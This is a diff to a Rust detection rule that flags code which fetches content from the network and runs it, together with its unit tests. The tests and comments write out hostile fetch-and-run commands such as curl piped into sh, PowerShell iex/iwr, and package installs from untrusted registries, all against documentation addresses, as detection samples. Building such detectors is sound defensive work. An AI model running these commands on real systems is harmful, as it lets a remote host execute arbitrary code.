@@ -6,7 +6,7 @@ use super::context::{Context, Findings, from_to, step, when};
 use super::{Rule, RuleClass, address, command};
 use crate::event::{Effect, Event, Role, Source, When};
 use crate::finding::Severity;
-use crate::value::{Origin, Value};
+use crate::value::{Origin, Shape, Value};
 
 pub(crate) const RULE: Rule = Rule {
     code: "download-and-execute",
@@ -26,14 +26,32 @@ const REGISTRIES: &[&str] =
 const RUNS: &[Effect] =
     &[Effect::Spawn, Effect::Shell, Effect::DynamicImport, Effect::NativeCode];
 
+/// The most fetched files that are followed.
+const MAX_WRITTEN: usize = 256;
+
 fn check(context: &Context<'_>, findings: &mut Findings<'_>) {
     for event in context.of(RUNS) {
         in_one_line(event, findings);
         // Which program runs is known where its name is: then the network gave words.
-        let is_named = event.argument(Role::Command).is_some_and(|c| !c.beginning().is_empty())
+        let command = event.argument(Role::Command);
+        let is_named = command.is_some_and(|command| !program(command).is_empty())
             || event.effect == Effect::DynamicImport;
-        let origin = event.origins(&[Role::Command, Role::Path], Source::Network).next();
-        if let Some(origin) = origin.filter(|_| !is_named) {
+        // Machine code is not named: it is handed over as bytes.
+        let roles: &[Role] = if event.effect == Effect::NativeCode {
+            &[Role::Command, Role::Path, Role::Data]
+        } else {
+            &[Role::Command, Role::Path]
+        };
+        let origin = event.origins(roles, Source::Network).next();
+        // `run + " install"`: which of the programs that are asked for runs may be told by
+        // a server; what it is asked to do is written here.
+        let asks = |command: &Value| command.pieces().iter().any(|piece| piece.starts_with(' '));
+        let is_asked = event.when == When::Call
+            && (command.is_some_and(asks)
+                || event.arguments_of(Role::CommandArgument).any(|given| {
+                    given.pieces().first().is_some_and(|word| !word.is_empty())
+                }));
+        if let Some(origin) = origin.filter(|_| !is_named && !is_asked) {
             tell(event, origin.name.as_deref(), findings, from_to(
                 origin,
                 "it is fetched from",
@@ -45,6 +63,14 @@ fn check(context: &Context<'_>, findings: &mut Findings<'_>) {
     by_way_of_a_file(context, findings);
 }
 
+/// What a command begins with: the program, in a text or a list.
+fn program(command: &Value) -> &str {
+    match &command.shape {
+        Shape::List(items) => items.first().map_or("", Value::beginning),
+        _ => command.beginning(),
+    }
+}
+
 /// `curl X | sh`, `wget X && ./X`, `iex (iwr X)`.
 fn in_one_line(event: &Event, findings: &mut Findings<'_>) {
     if !matches!(event.effect, Effect::Spawn | Effect::Shell) {
@@ -52,12 +78,16 @@ fn in_one_line(event: &Event, findings: &mut Findings<'_>) {
     }
     let commands = command::commands(event);
     let mut fetched: Option<&Command> = None;
+    let mut is_unpacked = false;
     for (number, one) in commands.iter().enumerate() {
         let fetches = one.purpose() == Purpose::Fetch;
         let runs_it = fetched.is_some_and(|before| {
-            one.is_piped && command::is_interpreter(&one.program()) || runs_result_of(one, before)
+            one.is_piped && command::is_interpreter(&one.program())
+                || runs_result_of(one, before)
+                || is_unpacked && runs_by_path(one)
         });
-        if runs_it || fetches && runs_what_it_fetches(one, number, &commands) {
+        is_unpacked |= fetched.is_some() && unpacks(one);
+        if runs_it || installs_from_stranger(one) || fetches && runs_what_it_fetches(one, number, &commands) {
             let line = command::line(event);
             let place = step(event.place, format!("the line is {}", super::shown(&line)));
             tell(event, url_in(&line).as_deref(), findings, vec![place]);
@@ -67,6 +97,39 @@ fn in_one_line(event: &Event, findings: &mut Findings<'_>) {
             fetched = Some(one);
         }
     }
+}
+
+fn unpacks(one: &Command) -> bool {
+    matches!(one.program().as_str(), "tar" | "bsdtar" | "unzip" | "gunzip" | "7z" | "unxz" | "bunzip2")
+}
+
+/// Whether a command is a file by its path, and no program of the system.
+fn runs_by_path(one: &Command) -> bool {
+    let program = one.words.first().map_or("", String::as_str);
+    let of_system = ["/usr/", "/bin/", "/sbin/", "/opt/"].iter().any(|begin| program.starts_with(begin));
+    program.contains('/') && !of_system
+}
+
+/// `npm install --registry http://198.51.100.7 X`: whoever answers at an address that
+/// nobody vouches for, by number or without TLS, chooses what is installed and run.
+fn installs_from_stranger(one: &Command) -> bool {
+    const OPTIONS: [&str; 4] = ["--registry", "--index-url", "--extra-index-url", "-i"];
+    let program = one.program();
+    let is_manager = matches!(program.as_str(), "npm" | "npx" | "yarn" | "pnpm" | "pip" | "pip3" | "uv")
+        || command::is_interpreter(&program) && one.has("pip");
+    let mut words = one.arguments().iter();
+    let mut from = None;
+    while let Some(word) = words.next() {
+        let (name, value) = word.split_once('=').unwrap_or((word, ""));
+        if OPTIONS.contains(&name) {
+            from = if value.is_empty() { words.next().map(String::as_str) } else { Some(value) };
+        }
+    }
+    let address = from.filter(|_| is_manager).and_then(address::from_url);
+    address.is_some_and(|address| {
+        address.internal().is_none_or(|block| block == ringfence_types::Block::Documentation)
+            && (address.scheme == "http" || address.host.address().is_some())
+    })
 }
 
 /// The URL within a command line.
@@ -111,56 +174,116 @@ fn runs_result_of(one: &Command, fetch: &Command) -> bool {
     is_it(program) || command::is_interpreter(&one.program()) && one.arguments().iter().any(|w| is_it(w))
 }
 
+/// A file that was fetched: where it was written, and from where it came.
+struct Fetched<'a> {
+    write: &'a Event,
+    origin: Origin,
+}
+
 /// A file is written with what was fetched; later it runs.
 fn by_way_of_a_file(context: &Context<'_>, findings: &mut Findings<'_>) {
-    let mut written: Vec<(&Event, Origin)> = Vec::new();
-    for event in context.of(&[Effect::FileWrite]) {
-        let origin = event.origins(&[Role::Data, Role::Url, Role::Path], Source::Network).next();
-        if let Some(origin) = origin {
-            written.push((event, origin.clone()));
-        }
-        if written.len() >= 256 {
-            break;
-        }
-    }
+    let requests: Vec<&Event> = context.of(&[Effect::Request]).collect();
+    let writes = context.of(&[Effect::FileWrite]);
+    let written = writes.filter_map(|write| fetched(write, &requests));
+    let written: Vec<Fetched<'_>> = written.take(MAX_WRITTEN).collect();
     if written.is_empty() {
         return;
     }
     for run in context.of(RUNS) {
-        let file = written.iter().find(|(write, _)| is_same_file(write, run));
-        let Some((write, origin)) = file else { continue };
+        let file = written.iter().find(|fetched| is_same_file(fetched.write, run));
+        let Some(Fetched { write, origin }) = file else { continue };
         let mut evidence = from_to(origin, "it is fetched from", write, "it is written");
         evidence.push(step(run.place, format!("the file is run by {}", super::shown(&run.api))));
         tell(run, origin.name.as_deref(), findings, evidence);
     }
 }
 
+/// What was fetched is written by data that came from there, by a function that fetches
+/// and writes at once, or into a file that is opened as a stream beside a request.
+fn fetched<'a>(write: &'a Event, requests: &[&Event]) -> Option<Fetched<'a>> {
+    let roles = [Role::Data, Role::Url, Role::Path];
+    if let Some(origin) = write.origins(&roles, Source::Network).next() {
+        return Some(Fetched { write, origin: origin.clone() });
+    }
+    let request = match write.argument(Role::Url) {
+        Some(_) => Some(write),
+        None if is_stream(write) => {
+            requests.iter().copied().find(|request| request.place.file == write.place.file)
+        }
+        None => None,
+    }?;
+    let name = request.text(Role::Url).map(|url| url.as_ref().into());
+    Some(Fetched { write, origin: Origin { source: Source::Network, place: request.place, name } })
+}
+
+/// Whether a file is opened so that something else may flow into it.
+fn is_stream(write: &Event) -> bool {
+    let last = write.api.rsplit('.').next().unwrap_or_default();
+    last.eq_ignore_ascii_case("createWriteStream") && write.argument(Role::Data).is_none()
+}
+
+/// Whether a file that was written is what runs, and not only something that a program
+/// is given: `tar x` unpacks what was fetched, `python` runs it.
 fn is_same_file(write: &Event, run: &Event) -> bool {
-    let paths: Vec<&Value> =
-        [Role::Path, Role::Target].iter().flat_map(|role| write.arguments_of(*role)).collect();
-    let used: Vec<&Value> = [Role::Command, Role::CommandArgument, Role::Path, Role::Name]
-        .iter()
-        .flat_map(|role| run.arguments_of(*role))
-        .collect();
-    paths.iter().any(|path| {
-        let name = path.pieces().last().map(|piece| last_part(piece).to_owned());
-        used.iter().any(|value| {
-            let same = !path.pieces().is_empty() && path.shape == value.shape;
-            let named = name.as_deref().is_some_and(|name| {
-                name.len() >= 3 && value.pieces().iter().any(|piece| names(piece, name))
-            });
-            same || named
-        })
+    let paths = [Role::Path, Role::Target].iter().flat_map(|role| write.arguments_of(*role));
+    let is_one_program = write.place.file == run.place.file;
+    paths.into_iter().any(|path| {
+        let name = path.pieces().last().map_or("", |piece| last_part(piece)).to_owned();
+        let runs = match run.effect {
+            Effect::Spawn | Effect::Shell => {
+                let commands = command::commands(run);
+                name.len() >= 3 && commands.iter().any(|one| runs_file(one, &name))
+            }
+            _ => false,
+        };
+        // Of a file whose name is chosen by the system only the folder is known: then it
+        // is the same one where both stand in one program.
+        let is_known = !path.pieces().is_empty() && (!name.is_empty() || is_one_program);
+        runs || is_known && what_runs(run).iter().any(|value| value.shape == path.shape)
     })
+}
+
+/// Whether a command is a file of this name, or runs it.
+fn runs_file(command: &Command, name: &str) -> bool {
+    let is_it = |word: &String| last_part(word) == name;
+    command.words.first().is_some_and(is_it)
+        || runs_arguments(&command.program()) && command.arguments().iter().any(is_it)
+}
+
+/// Whether a program runs a file that it is given.
+fn runs_arguments(program: &str) -> bool {
+    command::is_interpreter(program)
+        || matches!(
+            program,
+            "java" | "open" | "xdg-open" | "explorer" | "rundll32" | "regsvr32" | "msiexec" | "deno"
+                | "bun" | "wine" | "installer" | "dpkg"
+        )
+}
+
+/// The values that say what runs: the program, the files that an interpreter is given, the
+/// module or library that is loaded.
+fn what_runs(run: &Event) -> Vec<&Value> {
+    fn flat(value: &Value) -> Vec<&Value> {
+        match &value.shape {
+            Shape::List(items) => items.iter().collect(),
+            _ => vec![value],
+        }
+    }
+    let of = |roles: &'static [Role]| {
+        roles.iter().flat_map(|role| run.arguments_of(*role)).flat_map(flat)
+    };
+    if !matches!(run.effect, Effect::Spawn | Effect::Shell) {
+        return of(&[Role::Path, Role::Name]).collect();
+    }
+    let words: Vec<&Value> = of(&[Role::Command, Role::CommandArgument]).collect();
+    let program = command::commands(run).first().map(Command::program);
+    let all = program.is_some_and(|program| runs_arguments(&program));
+    let count = if all { words.len() } else { 1 };
+    words.into_iter().take(count).collect()
 }
 
 fn last_part(path: &str) -> &str {
     path.rsplit(['/', '\\']).next().unwrap_or(path)
-}
-
-/// Whether a piece of a command line holds this file's name as a word of its own.
-fn names(piece: &str, name: &str) -> bool {
-    piece.split(|c: char| c.is_whitespace() || "\"'".contains(c)).any(|word| last_part(word) == name)
 }
 
 fn tell(event: &Event, url: Option<&str>, findings: &mut Findings<'_>, evidence: Vec<crate::Step>) {
@@ -201,6 +324,9 @@ mod tests {
             "sh -c \"$(curl -fsSL http://192.0.2.1/x)\"",
             "powershell -c \"iex (iwr http://192.0.2.1/x.ps1)\"",
             "curl -O http://192.0.2.1/a.py; python3 a.py",
+            "curl -o /tmp/a.tgz http://192.0.2.1/a && tar xzf /tmp/a.tgz -C /tmp && /tmp/a/run",
+            "npm install --registry http://192.0.2.1:4873 a",
+            "pip install --index-url=http://x.invalid/simple a",
         ] {
             assert_eq!(shell(line), [Severity::High], "{line}");
         }
@@ -209,9 +335,66 @@ mod tests {
             "curl x | tar xz",
             "wget http://192.0.2.1/model.bin && ls",
             "node build.js",
+            "curl -o a.tgz https://x.invalid/a && tar xzf a.tgz && /usr/bin/make",
+            "npm install --registry http://localhost:4873 a",
+            "pip install -i https://mirror.example.com/simple a",
         ] {
             assert!(shell(line).is_empty(), "{line}");
         }
+    }
+
+    #[test]
+    fn a_file_that_is_filled_by_the_fetching_itself_is_followed() {
+        let url = || (Role::Url, text("https://x.invalid/a.bin"));
+        let run = |made: Made| {
+            let program = [(Role::Command, text("/tmp/a.bin"))];
+            made.event(Effect::Spawn, "node:child_process.execFile", &program).found(RULE.code)
+        };
+        let at_once = [url(), (Role::Target, text("/tmp/a.bin"))];
+        let retrieve = Made::new().event(Effect::FileWrite, "py:urllib.request.urlretrieve", &at_once);
+        assert_eq!(run(retrieve), [Severity::High]);
+        let stream = || {
+            let path = [(Role::Path, text("/tmp/a.bin"))];
+            Made::new().event(Effect::FileWrite, "node:fs.createWriteStream", &path)
+        };
+        assert!(run(stream()).is_empty());
+        assert_eq!(run(stream().event(Effect::Request, "node:https.get", &[url()])), [Severity::High]);
+    }
+
+    #[test]
+    fn a_server_that_gives_words_to_a_known_program_is_not_run() {
+        let word = from(Source::Network, Some("https://x.invalid/versions"));
+        let run = |program: Value| {
+            let all = Value { shape: Shape::List(vec![program, word.clone()]), origins: word.origins.clone() };
+            Made::new().event(Effect::Spawn, "py:subprocess.run", &[(Role::Command, all)]).found(RULE.code)
+        };
+        assert!(run(text("pip")).is_empty());
+        assert_eq!(run(word.clone()), [Severity::High]);
+    }
+
+    #[test]
+    fn what_was_fetched_and_is_unpacked_does_not_run() {
+        let run = |program: &str, effect: Effect| {
+            let line = [(Role::Command, text(program)), (Role::CommandArgument, list(&["/tmp/x.tgz"]))];
+            Made::new()
+                .event(Effect::FileWrite, "node:fs.writeFile", &[
+                    (Role::Path, text("/tmp/x.tgz")),
+                    (Role::Data, from(Source::Network, Some("http://192.0.2.1/x"))),
+                ])
+                .event(effect, "node:child_process.spawn", &line)
+                .found(RULE.code)
+        };
+        assert!(run("tar", Effect::Spawn).is_empty());
+        assert!(run("tar xzf", Effect::Shell).is_empty());
+        assert_eq!(run("python3", Effect::Spawn), [Severity::High]);
+        assert_eq!(run("sh", Effect::Shell), [Severity::High]);
+    }
+
+    #[test]
+    fn machine_code_from_the_network_is_run() {
+        let bytes = [(Role::Data, from(Source::Network, Some("http://192.0.2.1/s")))];
+        let write = Made::new().event(Effect::NativeCode, "py:ctypes.memmove", &bytes);
+        assert_eq!(write.found(RULE.code), [Severity::High]);
     }
 
     #[test]
